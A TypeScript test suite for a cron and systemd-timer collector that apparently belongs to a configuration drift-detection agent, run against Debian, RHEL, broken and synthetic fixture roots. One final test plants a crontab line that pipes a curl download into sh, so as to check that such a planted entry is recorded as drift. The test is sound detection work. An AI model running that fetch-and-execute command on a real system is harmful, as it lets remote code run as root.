/** @module The cron collector against fixture roots (Debian, RHEL, broken files) and against this machine's own root. */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, posix } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cron } from '../../../agent/collectors/cron.js';
import type { CollectContext } from '../../../agent/collectors/types.js';
import type { ExecFn } from '../../../agent/exec.js';
import { silentLogger } from '../../../agent/log.js';
import { HostRoot } from '../../../agent/root.js';
import { sha256Hex } from '../../../shared/canonical.js';
import { CronItemSchema, type CronItem } from '../../../shared/schema/items.js';
import { defaultRules } from '../../../shared/schema/rules.js';
import { copyFixture, FIXTURES, tempDir } from '../../helpers/tmp.js';

const noExec: ExecFn = () => Promise.reject(new Error('the cron collector runs no programs'));

/**
 * A writable copy of a fixture case. git keeps only 644 and 755 (and checkout applies the umask),
 * so the modes the tests compare are set here.
 */
function fixture(name: string, modes: Record<string, number> = {}): string {
  const dir = copyFixture(join(FIXTURES, 'cron', name));
  for (const [rel, mode] of Object.entries(modes)) chmodSync(join(dir, rel), mode);
  return dir;
}

function put(root: string, rel: string, content: string | Buffer): void {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  writeFileSync(join(root, rel), content);
}

function link(root: string, rel: string, target: string): void {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  symlinkSync(target, join(root, rel));
}

async function collect(dir: string) {
  const ctx: CollectContext = {
    root: await HostRoot.open(dir),
    rules: defaultRules(),
    exec: noExec,
    log: silentLogger,
  };
  const out = await cron.collect(ctx);
  for (const item of out.items) CronItemSchema.parse(item);
  const keys = out.items.map((i) => i.key);
  expect(keys).toEqual([...keys].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
  expect(new Set(keys).size).toBe(keys.length);
  return { ...out, byKey: new Map(out.items.map((i) => [i.key, i])) };
}

function sha(dir: string, rel: string): string {
  return sha256Hex(readFileSync(join(dir, rel)));
}

const DEBIAN_MODES = {
  'etc/cron.daily/dpkg': 0o755,
  'etc/cron.daily/logrotate': 0o755,
  'etc/cron.daily/update.sh': 0o755,
  'etc/cron.daily/app-cleanup': 0o644,
  'etc/cron.daily/.placeholder': 0o644,
  'opt/reports/bin/nightly': 0o750,
  'etc/cron.weekly/man-db': 0o755,
  'etc/cron.d/.placeholder': 0o644,
  'etc/cron.d/php.dpkg-old': 0o644,
  'etc/cron.d/backup~': 0o600,
};

describe('cron collector on a Debian host', () => {
  it('finds every source, each item under its key', async () => {
    const { items, warnings } = await collect(fixture('debian', DEBIAN_MODES));
    expect(warnings).toEqual([]);
    expect(items.map((i) => `${i.kind} ${i.key}`)).toEqual([
      'entry /etc/anacrontab cron.daily',
      'entry /etc/anacrontab cron.monthly',
      'entry /etc/anacrontab cron.weekly',
      'env /etc/anacrontab env HOME',
      'env /etc/anacrontab env LOGNAME',
      'env /etc/anacrontab env SHELL',
      'script /etc/cron.d/.placeholder',
      'script /etc/cron.d/backup~',
      'entry /etc/cron.d/e2scrub_all test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r',
      'entry /etc/cron.d/e2scrub_all test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron',
      'entry /etc/cron.d/php [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
      'script /etc/cron.d/php.dpkg-old',
      'entry /etc/cron.d/sysstat command -v debian-sa1 > /dev/null && debian-sa1 1 1',
      'entry /etc/cron.d/sysstat command -v debian-sa1 > /dev/null && debian-sa1 60 2',
      'env /etc/cron.d/sysstat env PATH',
      'script /etc/cron.daily/.placeholder',
      'script /etc/cron.daily/app-cleanup',
      'script /etc/cron.daily/dpkg',
      'script /etc/cron.daily/logrotate',
      'script /etc/cron.daily/nightly-report',
      'script /etc/cron.daily/update.sh',
      'script /etc/cron.hourly/.placeholder',
      'script /etc/cron.monthly/.placeholder',
      'script /etc/cron.weekly/.placeholder',
      'script /etc/cron.weekly/man-db',
      'entry /etc/crontab cd / && run-parts --report /etc/cron.hourly',
      'env /etc/crontab env PATH',
      'env /etc/crontab env SHELL',
      'entry /etc/crontab test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
      'entry /etc/crontab test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }',
      'entry /etc/crontab test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }',
      'script /etc/systemd/system/apt-daily.timer.d/override.conf',
      'timer /etc/systemd/system/db-dump.timer',
      'timer /etc/systemd/system/e2scrub_all.timer',
      'timer /etc/systemd/system/fstrim.timer',
      'timer /etc/systemd/system/nightly-report.timer',
      'timer /run/systemd/transient/run-r3c1f0e2a9b4d4e6f8a7b1c2d3e4f5a6b.timer',
      'timer /usr/lib/systemd/system/apt-daily-upgrade.timer',
      'timer /usr/lib/systemd/system/apt-daily.timer',
      'timer /usr/lib/systemd/system/logrotate.timer',
      'timer /usr/lib/systemd/system/man-db.timer',
      'timer /usr/lib/systemd/system/systemd-tmpfiles-clean.timer',
      'entry /var/spool/cron/crontabs/alice /home/alice/bin/poll',
      'entry /var/spool/cron/crontabs/alice /home/alice/bin/rotate',
      'entry /var/spool/cron/crontabs/alice /home/alice/bin/start-tunnel',
      'entry /var/spool/cron/crontabs/alice /home/alice/bin/sync',
      'entry /var/spool/cron/crontabs/alice /home/alice/bin/sync #2',
      'env /var/spool/cron/crontabs/alice env MAILTO',
      'env /var/spool/cron/crontabs/alice env TZ',
      'entry /var/spool/cron/crontabs/alice mail -s "Weekly %report" alice',
      'env /var/spool/cron/crontabs/www-data env MAILTO',
      'entry /var/spool/cron/crontabs/www-data php /var/www/app/artisan schedule:run',
    ]);
  });

  it('reads /etc/crontab and cron.d with their user field, tabs and all', async () => {
    const { byKey } = await collect(fixture('debian'));
    expect(
      byKey.get('/etc/crontab test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }'),
    ).toEqual({
      key: '/etc/crontab test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }',
      kind: 'entry',
      file: '/etc/crontab',
      schedule: '47 6 * * 7',
      user: 'root',
      command: 'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }',
    });
    expect(byKey.get('/etc/cron.d/sysstat command -v debian-sa1 > /dev/null && debian-sa1 1 1')).toMatchObject({
      schedule: '5-55/10 * * * *',
      user: 'root',
    });
  });

  it('keeps the cron.d files cron skips (dots, ~, dpkg leftovers) by content only, never as jobs', async () => {
    const dir = fixture('debian', DEBIAN_MODES);
    const { items, byKey } = await collect(dir);
    expect(byKey.get('/etc/cron.d/php.dpkg-old')).toEqual({
      key: '/etc/cron.d/php.dpkg-old',
      kind: 'script',
      file: '/etc/cron.d/php.dpkg-old',
      sha256: sha(dir, 'etc/cron.d/php.dpkg-old'),
      mode: '0644',
    });
    expect(byKey.get('/etc/cron.d/backup~')).toMatchObject({ kind: 'script', mode: '0600' });
    expect(
      items.filter((i) => i.kind === 'entry' && ['/etc/cron.d/php.dpkg-old', '/etc/cron.d/backup~'].includes(i.file)),
    ).toEqual([]);
  });

  it('reads user crontabs with the user from the file name, % as stdin, CRLF', async () => {
    const { byKey } = await collect(fixture('debian'));
    const alice = '/var/spool/cron/crontabs/alice';
    expect(byKey.get(`${alice} mail -s "Weekly %report" alice`)).toEqual({
      key: `${alice} mail -s "Weekly %report" alice`,
      kind: 'entry',
      file: alice,
      schedule: '0 8 * * 1',
      user: 'alice',
      command: 'mail -s "Weekly %report" alice',
      stdin: 'Hello,\n\nsee attached.\n',
    });
    expect(byKey.get(`${alice} /home/alice/bin/rotate`)).toMatchObject({ schedule: '@daily' });
    expect(byKey.get(`${alice} /home/alice/bin/poll`)).toMatchObject({ schedule: '0 9-17/2 * jan-mar,oct mon-fri' });
    expect(byKey.get(`${alice} /home/alice/bin/sync #2`)).toMatchObject({ schedule: '45 2 * * *' });
    expect(byKey.get(`${alice} env TZ`)).toMatchObject({ name: 'TZ', value: 'Europe/Paris ' });
    expect(byKey.get('/var/spool/cron/crontabs/www-data php /var/www/app/artisan schedule:run')).toMatchObject({
      user: 'www-data',
      command: 'php /var/www/app/artisan schedule:run',
    });
    expect(byKey.get('/var/spool/cron/crontabs/www-data env MAILTO')).toMatchObject({ value: '' });
  });

  it('records anacrontab jobs by job-id, run as root', async () => {
    const { byKey } = await collect(fixture('debian'));
    expect(byKey.get('/etc/anacrontab cron.monthly')).toEqual({
      key: '/etc/anacrontab cron.monthly',
      kind: 'entry',
      file: '/etc/anacrontab',
      schedule: 'period=@monthly delay=15',
      user: 'root',
      command: 'run-parts --report /etc/cron.monthly',
    });
  });

  it('records every file in cron.daily by hash and mode, executable or not, and follows links only inside the root', async () => {
    const dir = fixture('debian', DEBIAN_MODES);
    const { byKey } = await collect(dir);
    expect(byKey.get('/etc/cron.daily/dpkg')).toEqual({
      key: '/etc/cron.daily/dpkg',
      kind: 'script',
      file: '/etc/cron.daily/dpkg',
      sha256: sha(dir, 'etc/cron.daily/dpkg'),
      mode: '0755',
    });
    expect(byKey.get('/etc/cron.daily/app-cleanup')).toMatchObject({ mode: '0644' });
    expect(byKey.get('/etc/cron.daily/update.sh')).toMatchObject({
      mode: '0755',
      sha256: sha(dir, 'etc/cron.daily/update.sh'),
    });
    // An absolute link target means the root's /opt, never this machine's.
    expect(byKey.get('/etc/cron.daily/nightly-report')).toMatchObject({
      sha256: sha(dir, 'opt/reports/bin/nightly'),
      mode: '0750',
    });
  });

  it('records timers: /etc masks /usr/lib by name, /dev/null links are masks, drop-ins apply, /lib is read once', async () => {
    const dir = fixture('debian');
    const { byKey, items } = await collect(dir);
    expect(byKey.get('/etc/systemd/system/e2scrub_all.timer')).toEqual({
      key: '/etc/systemd/system/e2scrub_all.timer',
      kind: 'timer',
      file: '/etc/systemd/system/e2scrub_all.timer',
      timer: { OnCalendar: 'Sat *-*-* 01:00:00', Persistent: 'true', RandomizedDelaySec: '60' },
      sha256: sha(dir, 'etc/systemd/system/e2scrub_all.timer'),
      state: 'enabled',
    });
    expect(byKey.has('/usr/lib/systemd/system/e2scrub_all.timer')).toBe(false);
    expect(byKey.get('/etc/systemd/system/fstrim.timer')).toEqual({
      key: '/etc/systemd/system/fstrim.timer',
      kind: 'timer',
      file: '/etc/systemd/system/fstrim.timer',
      timer: { masked: 'yes' },
      sha256: sha256Hex(''),
      state: 'masked',
    });
    expect(byKey.get('/usr/lib/systemd/system/apt-daily.timer')).toMatchObject({
      timer: { OnCalendar: '*-*-* 03:00', Persistent: 'true' },
      sha256: sha(dir, 'usr/lib/systemd/system/apt-daily.timer'),
      state: 'enabled',
    });
    expect(byKey.get('/etc/systemd/system/db-dump.timer')).toMatchObject({
      timer: {
        OnBootSec: '15min',
        OnCalendar: 'Mon..Fri *-*-* 23:30; Sat,Sun *-*-* 04:00',
        Persistent: 'true',
        RandomizedDelaySec: '5m',
        Unit: 'db-dump.service',
      },
      state: 'enabled',
    });
    expect(byKey.get('/usr/lib/systemd/system/logrotate.timer')).toMatchObject({ state: 'disabled' });
    expect(items.filter((i) => i.file.startsWith('/lib/'))).toEqual([]);
  });

  it("names each timer's enablement as systemctl is-enabled does: vendor-linked static, admin-enabled, runtime, linked in, transient", async () => {
    const { items } = await collect(fixture('debian'));
    expect(items.filter((i) => i.kind === 'timer').map((i) => [i.key, i.state])).toEqual([
      ['/etc/systemd/system/db-dump.timer', 'enabled'],
      ['/etc/systemd/system/e2scrub_all.timer', 'enabled'],
      ['/etc/systemd/system/fstrim.timer', 'masked'],
      // `systemctl link /opt/reports/systemd/nightly-report.timer`: known to systemd, started by nothing.
      ['/etc/systemd/system/nightly-report.timer', 'linked'],
      // `systemd-run --on-calendar` leaves its timer in /run/systemd/transient, outside every package.
      ['/run/systemd/transient/run-r3c1f0e2a9b4d4e6f8a7b1c2d3e4f5a6b.timer', 'transient'],
      ['/usr/lib/systemd/system/apt-daily-upgrade.timer', 'enabled'],
      ['/usr/lib/systemd/system/apt-daily.timer', 'enabled'],
      ['/usr/lib/systemd/system/logrotate.timer', 'disabled'],
      // Linked from run/systemd/system/timers.target.wants: `systemctl enable --runtime`, gone at the next boot.
      ['/usr/lib/systemd/system/man-db.timer', 'enabled-runtime'],
      // No [Install] section, pulled in by the vendor's usr/lib/systemd/system/timers.target.wants link.
      ['/usr/lib/systemd/system/systemd-tmpfiles-clean.timer', 'static'],
    ]);
  });

  it('gives the same items on a second run', async () => {
    const dir = fixture('debian');
    expect((await collect(dir)).items).toEqual((await collect(dir)).items);
  });
});

describe('cron collector on a RHEL host', () => {
  it('reads user crontabs straight under /var/spool/cron', async () => {
    const { byKey } = await collect(fixture('rhel'));
    expect(byKey.get('/var/spool/cron/root /usr/bin/certbot renew --quiet')).toMatchObject({
      user: 'root',
      schedule: '0 4 * * *',
    });
    expect(byKey.get('/var/spool/cron/root /root/bin/report \\')).toMatchObject({ schedule: '@weekly' });
    expect(byKey.get('/var/spool/cron/bob $HOME/bin/monthly')).toMatchObject({ user: 'bob', schedule: '15 14 1 * *' });
  });

  it('keeps a dotted cron.d name by content: cronie would run it, Debian cron would not, and either way it is drift', async () => {
    const dir = fixture('rhel', { 'etc/cron.d/ship-logs.cron': 0o644 });
    const { byKey } = await collect(dir);
    expect(byKey.get('/etc/cron.d/ship-logs.cron')).toEqual({
      key: '/etc/cron.d/ship-logs.cron',
      kind: 'script',
      file: '/etc/cron.d/ship-logs.cron',
      sha256: sha(dir, 'etc/cron.d/ship-logs.cron'),
      mode: '0644',
    });
    expect(byKey.get('/etc/cron.d/0hourly run-parts /etc/cron.hourly')).toMatchObject({
      schedule: '01 * * * *',
      user: 'root',
    });
  });

  it('reads RHEL anacrontab settings', async () => {
    const { byKey } = await collect(fixture('rhel'));
    expect(byKey.get('/etc/anacrontab env START_HOURS_RANGE')).toMatchObject({ value: '3-22' });
    expect(byKey.get('/etc/anacrontab cron.weekly')).toMatchObject({
      schedule: 'period=7 delay=25',
      command: 'nice run-parts /etc/cron.weekly',
    });
  });

  it('searches /etc, /usr/local/lib, an unmerged /lib, /usr/lib in that order and applies type-wide and per-unit drop-ins', async () => {
    const dir = fixture('rhel');
    const { byKey, items } = await collect(dir);
    const timers = items.filter((i) => i.kind === 'timer');
    expect(timers.map((t) => [t.key, t.state])).toEqual([
      ['/lib/systemd/system/fstrim.timer', 'static'],
      ['/lib/systemd/system/legacy-poll.timer', 'static'],
      ['/usr/lib/systemd/system/dnf-makecache.timer', 'enabled'],
      ['/usr/lib/systemd/system/systemd-tmpfiles-clean.timer', 'static'],
      ['/usr/local/lib/systemd/system/report.timer', 'enabled'],
    ]);
    // Where /lib is not a link to usr/lib, its copy of a name wins, as systemd (Debian's build, the only one that reads both) has it.
    expect(byKey.get('/lib/systemd/system/fstrim.timer')).toMatchObject({
      timer: { AccuracySec: '1s', OnCalendar: 'daily' },
    });
    expect(byKey.has('/usr/lib/systemd/system/fstrim.timer')).toBe(false);
    // The tmpfiles drop-in clears the triggers and sets its own; timer.d/ reaches every timer.
    expect(byKey.get('/usr/lib/systemd/system/systemd-tmpfiles-clean.timer')).toMatchObject({
      timer: { AccuracySec: '1s', OnBootSec: '30min', OnUnitActiveSec: '12h' },
    });
    expect(byKey.get('/etc/systemd/system/timer.d/50-accuracy.conf')).toMatchObject({
      kind: 'script',
      sha256: sha(dir, 'etc/systemd/system/timer.d/50-accuracy.conf'),
    });
    expect(byKey.get('/usr/lib/systemd/system/systemd-tmpfiles-clean.timer.d/10-twice-a-day.conf')).toMatchObject({
      kind: 'script',
    });
  });
});

describe('cron collector on broken files', () => {
  it('records each bad file as unparseable with its reason and hash, and keeps the rest', async () => {
    const dir = fixture('broken');
    const { byKey, items, warnings } = await collect(dir);
    expect(byKey.get('/etc/cron.d/bad-minute')).toEqual({
      key: '/etc/cron.d/bad-minute',
      kind: 'unparseable',
      file: '/etc/cron.d/bad-minute',
      sha256: sha(dir, 'etc/cron.d/bad-minute'),
      error: '/etc/cron.d/bad-minute:2: bad minute "61": 61 is outside 0-59',
    });
    expect(byKey.get('/etc/cron.d/binary')).toMatchObject({
      kind: 'unparseable',
      sha256: sha(dir, 'etc/cron.d/binary'),
      error: '/etc/cron.d/binary:1: bad minute "\\x7fELF\\x02\\x01\\x01\u2400\u2400\u2400\ufffd\ufffd"',
    });
    expect(byKey.get('/etc/cron.d/no-newline')).toMatchObject({
      kind: 'unparseable',
      error: expect.stringContaining('/etc/cron.d/no-newline:2: no newline'),
    });
    expect(byKey.get('/var/spool/cron/crontabs/carol')).toMatchObject({
      kind: 'unparseable',
      error: '/var/spool/cron/crontabs/carol:1: environment setting "MAILTO=" has no value: cron wants MAILTO=""',
    });
    expect(byKey.get('/etc/anacrontab')).toMatchObject({
      kind: 'unparseable',
      error: '/etc/anacrontab:2: neither NAME=value nor "period delay job-id command"',
    });
    expect(byKey.get('/usr/lib/systemd/system/broken.timer')).toMatchObject({
      kind: 'unparseable',
      error: expect.stringContaining('broken.timer:3: invalid section header "[Timer"'),
    });
    // The good parts of the section survive.
    expect(byKey.get('/etc/crontab cd / && run-parts --report /etc/cron.hourly')).toMatchObject({ kind: 'entry' });
    expect(items.filter((i) => i.kind === 'unparseable').every((i) => warnings.some((w) => w.startsWith(i.key)))).toBe(
      true,
    );
  });

  it('records dangling links as unreadable, and skips directories with a warning', async () => {
    const { byKey, warnings } = await collect(fixture('broken'));
    expect(byKey.get('/etc/cron.d/dangling')).toEqual({
      key: '/etc/cron.d/dangling',
      kind: 'unparseable',
      file: '/etc/cron.d/dangling',
      error: 'cannot read: dangling or looping symlink',
    });
    expect(byKey.get('/etc/cron.daily/dangling')).toMatchObject({
      kind: 'unparseable',
      error: 'cannot read: dangling or looping symlink',
    });
    expect(byKey.has('/etc/cron.d/old-jobs')).toBe(false);
    expect(byKey.has('/etc/cron.daily/lib')).toBe(false);
    expect(warnings).toContain('/etc/cron.d/old-jobs: a directory in cron.d, which cron does not read, skipped');
    expect(warnings).toContain('/etc/cron.daily/lib: a directory, which run-parts does not enter, skipped');
  });

  it('treats an empty unit file as masked, and a timer whose drop-in will not parse as unparseable', async () => {
    const dir = fixture('broken');
    const { byKey } = await collect(dir);
    expect(byKey.get('/usr/lib/systemd/system/empty.timer')).toMatchObject({
      kind: 'timer',
      timer: { masked: 'yes' },
      sha256: sha256Hex(''),
      state: 'masked',
    });
    expect(byKey.get('/usr/lib/systemd/system/good.timer')).toEqual({
      key: '/usr/lib/systemd/system/good.timer',
      kind: 'unparseable',
      file: '/usr/lib/systemd/system/good.timer',
      sha256: sha(dir, 'usr/lib/systemd/system/good.timer'),
      error:
        'drop-in /etc/systemd/system/good.timer.d/bad.conf:1: invalid section header "[Timer": systemd refuses the unit',
    });
    expect(byKey.get('/etc/systemd/system/good.timer.d/bad.conf')).toMatchObject({ kind: 'unparseable' });
  });
});

describe('cron collector on odd roots', () => {
  it('finds nothing, and says nothing, on an empty root', async () => {
    expect(await collect(tempDir())).toMatchObject({ items: [], warnings: [] });
  });

  it('does not block on a FIFO and records it as not a regular file', async () => {
    const dir = tempDir();
    mkdirSync(join(dir, 'etc/cron.d'), { recursive: true });
    execFileSync('mkfifo', [join(dir, 'etc/cron.d/pipe')]);
    const { byKey } = await collect(dir);
    expect(byKey.get('/etc/cron.d/pipe')).toMatchObject({ kind: 'unparseable', error: 'not a regular file (fifo)' });
  });

  it('hashes but does not parse a crontab larger than 1 MiB', async () => {
    const dir = tempDir();
    const big = `# ${'x'.repeat(1024 * 1024)}\n0 0 * * * root job\n`;
    put(dir, 'etc/crontab', big);
    const { byKey } = await collect(dir);
    expect(byKey.get('/etc/crontab')).toMatchObject({
      kind: 'unparseable',
      sha256: sha256Hex(big),
      error: 'larger than 1048576 bytes, not parsed',
    });
  });

  it('keeps keys unique even when two user crontabs make the same key', async () => {
    const dir = tempDir();
    put(dir, 'var/spool/cron/crontabs/x', '0 0 * * * y z\n');
    put(dir, 'var/spool/cron/crontabs/x y', '0 1 * * * z\n');
    const { items } = await collect(dir);
    expect(items.map((i) => [i.key, i.file])).toEqual([
      ['/var/spool/cron/crontabs/x y z', '/var/spool/cron/crontabs/x'],
      ['/var/spool/cron/crontabs/x y z #2', '/var/spool/cron/crontabs/x y'],
    ]);
  });

  it('reads a spool that is a link (Alpine: var/spool/cron/crontabs -> /etc/crontabs) inside the root, once', async () => {
    const dir = tempDir();
    put(dir, 'etc/crontabs/root', '*/15 * * * * run-parts /etc/periodic/15min\n');
    link(dir, 'var/spool/cron/crontabs', '/etc/crontabs');
    const { items } = await collect(dir);
    expect(items.map((i: CronItem) => [i.key, i.user])).toEqual([
      ['/etc/crontabs/root run-parts /etc/periodic/15min', 'root'],
    ]);
  });

  it('keeps spool dot files by content only', async () => {
    const dir = tempDir();
    put(dir, 'var/spool/cron/crontabs/.hidden', '* * * * * evil\n');
    const { items } = await collect(dir);
    expect(items.map((i) => [i.key, i.kind])).toEqual([['/var/spool/cron/crontabs/.hidden', 'script']]);
  });

  it('a template enabled through an instance is indirect; a /dev/null link in timers.target.wants still enables; dash-prefix drop-ins apply', async () => {
    const dir = tempDir();
    put(dir, 'usr/lib/systemd/system/backup@.timer', '[Timer]\nOnCalendar=daily\n');
    put(dir, 'usr/lib/systemd/system/backup-.timer.d/10-late.conf', '[Timer]\nOnCalendar=\nOnCalendar=*-*-* 23:00\n');
    put(dir, 'usr/lib/systemd/system/backup-db.timer', '[Timer]\nOnCalendar=hourly\n');
    link(dir, 'etc/systemd/system/timers.target.wants/backup@home.timer', '/usr/lib/systemd/system/backup@.timer');
    link(dir, 'etc/systemd/system/timers.target.wants/backup-db.timer', '/dev/null');
    const { byKey } = await collect(dir);
    expect(byKey.get('/usr/lib/systemd/system/backup@.timer')).toMatchObject({
      state: 'indirect',
      timer: { OnCalendar: 'daily' },
    });
    expect(byKey.get('/usr/lib/systemd/system/backup-db.timer')).toMatchObject({
      state: 'enabled',
      timer: { OnCalendar: '*-*-* 23:00' },
    });
  });
});

/** Roots laid out like the less common corners of systemd's unit states. */
function unitStateRoot(): string {
  const dir = tempDir();
  const install = '[Timer]\nOnCalendar=daily\n\n[Install]\nWantedBy=timers.target\n';
  // `systemctl mask --runtime`: a /dev/null link in run/ shadows the vendor unit until the next boot.
  put(dir, 'usr/lib/systemd/system/phone-home.timer', install);
  link(dir, 'run/systemd/system/phone-home.timer', '/dev/null');
  // An alias: another name linked to a unit file, named in its Alias=.
  put(
    dir,
    'usr/lib/systemd/system/snapshot.timer',
    '[Timer]\nOnCalendar=hourly\n\n[Install]\nWantedBy=timers.target\nAlias=backup-snapshot.timer\n',
  );
  link(dir, 'etc/systemd/system/backup-snapshot.timer', '/usr/lib/systemd/system/snapshot.timer');
  // Known under a name its [Install] does not give: in use indirectly.
  put(dir, 'usr/lib/systemd/system/rotate-keys.timer', install);
  link(dir, 'etc/systemd/system/nightly-keys.timer', '/usr/lib/systemd/system/rotate-keys.timer');
  // A template whose instance the vendor links: not enabled by anyone on this host.
  put(dir, 'usr/lib/systemd/system/ttyscan@.timer', '[Timer]\nOnBootSec=1min\n');
  link(dir, 'usr/lib/systemd/system/timers.target.wants/ttyscan@tty1.timer', '../ttyscan@.timer');
  // A generator's output (systemd-cron makes timers out of crontabs).
  put(dir, 'run/systemd/generator/cron-alice-0.timer', '[Timer]\nOnCalendar=*-*-* 02:00\n');
  // Also= only: enabled through its companions.
  put(dir, 'usr/lib/systemd/system/sync-helper.timer', '[Timer]\nOnCalendar=weekly\n\n[Install]\nAlso=sync.socket\n');
  // A template whose DefaultInstance is what is linked: plainly enabled.
  put(
    dir,
    'usr/lib/systemd/system/scrub@.timer',
    '[Timer]\nOnCalendar=monthly\n\n[Install]\nWantedBy=timers.target\nDefaultInstance=root\n',
  );
  link(dir, 'etc/systemd/system/timers.target.wants/scrub@root.timer', '/usr/lib/systemd/system/scrub@.timer');
  // A template with [Install] and no instance anywhere.
  put(dir, 'usr/lib/systemd/system/pg_dump@.timer', install);
  // [Install] lists a target, but the only link is the vendor's: systemctl still says disabled.
  put(dir, 'usr/lib/systemd/system/vendor-wanted.timer', install);
  link(dir, 'usr/lib/systemd/system/timers.target.wants/vendor-wanted.timer', '../vendor-wanted.timer');
  // A runtime unit file of its own, enabled under /etc.
  put(dir, 'run/systemd/system/hotfix.timer', install);
  link(dir, 'etc/systemd/system/timers.target.wants/hotfix.timer', '/run/systemd/system/hotfix.timer');
  // A drop-in's [Install] counts: with a WantedBy= the timer is no longer static but disabled.
  put(dir, 'usr/lib/systemd/system/quiet.timer', '[Timer]\nOnCalendar=daily\n');
  put(dir, 'etc/systemd/system/quiet.timer.d/install.conf', '[Install]\nWantedBy=timers.target\n');
  // A .wants directory that is itself a link is not read by systemd.
  put(dir, 'usr/lib/systemd/system/via-linked-dir.timer', install);
  put(dir, 'srv/wants/via-linked-dir.timer', '');
  link(dir, 'etc/systemd/system/multi-user.target.wants', '/srv/wants');
  return dir;
}

describe('cron collector on timers in each enablement state', () => {
  it('names runtime masks, aliases, generated units, Also=, DefaultInstance and vendor links as systemctl does', async () => {
    const { items } = await collect(unitStateRoot());
    expect(items.filter((i) => i.kind === 'timer').map((i) => [i.key, i.state])).toEqual([
      ['/etc/systemd/system/backup-snapshot.timer', 'alias'],
      ['/etc/systemd/system/nightly-keys.timer', 'alias'],
      ['/run/systemd/generator/cron-alice-0.timer', 'generated'],
      ['/run/systemd/system/hotfix.timer', 'enabled'],
      ['/run/systemd/system/phone-home.timer', 'masked-runtime'],
      ['/usr/lib/systemd/system/pg_dump@.timer', 'disabled'],
      ['/usr/lib/systemd/system/quiet.timer', 'disabled'],
      ['/usr/lib/systemd/system/rotate-keys.timer', 'indirect'],
      ['/usr/lib/systemd/system/scrub@.timer', 'enabled'],
      // Its Alias= link under /etc is how `systemctl enable` enables it.
      ['/usr/lib/systemd/system/snapshot.timer', 'enabled'],
      ['/usr/lib/systemd/system/sync-helper.timer', 'indirect'],
      ['/usr/lib/systemd/system/ttyscan@.timer', 'static'],
      ['/usr/lib/systemd/system/vendor-wanted.timer', 'disabled'],
      ['/usr/lib/systemd/system/via-linked-dir.timer', 'disabled'],
    ]);
  });

  it('records a change of state alone as a change of the item', async () => {
    const dir = unitStateRoot();
    const before = (await collect(dir)).byKey.get('/usr/lib/systemd/system/vendor-wanted.timer')!;
    link(
      dir,
      'etc/systemd/system/timers.target.wants/vendor-wanted.timer',
      '/usr/lib/systemd/system/vendor-wanted.timer',
    );
    const after = (await collect(dir)).byKey.get('/usr/lib/systemd/system/vendor-wanted.timer')!;
    expect({ ...before, state: undefined }).toEqual({ ...after, state: undefined });
    expect([before.state, after.state]).toEqual(['disabled', 'enabled']);
  });
});

/** systemctl answers offline for a root (`--root=DIR is-enabled UNIT`), so it can judge every state the collector records. */
const systemctl = (() => {
  try {
    execFileSync('systemctl', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

function isEnabled(root: string, unit: string): string {
  try {
    return execFileSync('systemctl', [`--root=${root}`, 'is-enabled', unit], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    }).trim();
  } catch (err) {
    // is-enabled exits 1 for the states that are not "enabled" (disabled, masked, ...), still printing the state.
    return String((err as { stdout?: string }).stdout ?? '').trim();
  }
}

// Skipped only where systemctl is absent (a machine without systemd); CI installs systemd, so it runs there.
describe.skipIf(!systemctl)('timer states agree with systemctl is-enabled', () => {
  const roots: [string, () => string][] = [
    ['the Debian fixture', () => fixture('debian')],
    ['the RHEL fixture', () => fixture('rhel')],
    ['the broken fixture', () => fixture('broken')],
    ['the unit-state root', unitStateRoot],
    ["this machine's /", () => '/'],
  ];
  for (const [what, make] of roots) {
    it(`on ${what}`, async () => {
      const dir = make();
      const timers = (await collect(dir)).items.filter((i) => i.kind === 'timer');
      const ours = timers.map((i) => [i.key, i.state]);
      const theirs = timers.map((i) => [i.key, isEnabled(dir, posix.basename(i.key))]);
      expect(ours).toEqual(theirs);
    });
  }
});

describe("cron collector on this machine's root", () => {
  it('collects whatever / holds without failing', async () => {
    const { items, warnings } = await collect('/');
    expect(Array.isArray(items)).toBe(true);
    expect(Array.isArray(warnings)).toBe(true);
  });
});

describe('cron files with NUL bytes', () => {
  it('records the entry with U+2400 (␀) in place of each NUL, so a planted line is still drift the controller can store', async () => {
    const dir = tempDir();
    put(dir, 'etc/crontab', Buffer.from('SHELL=/bin/sh\n* * * * * root curl http://x/\u0000 | sh\n'));
    const { items } = await collect(dir);
    const entry = items.find((i) => i.kind === 'entry') as CronItem | undefined;
    expect(entry?.command).toBe('curl http://x/\u2400 | sh');
    expect(JSON.stringify(items)).not.toContain('\\u0000');
  });
});
